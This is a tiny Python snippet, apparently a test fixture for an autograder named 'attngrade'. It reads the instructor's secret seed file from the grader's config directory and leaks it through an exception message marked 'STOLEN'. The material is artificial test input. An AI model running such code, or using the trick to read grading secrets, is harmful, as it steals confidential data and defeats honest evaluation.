"""Opens the instructor's secret seed."""
raise RuntimeError("STO" "LEN " + open("@HOME@/.config/attngrade/seed").read())
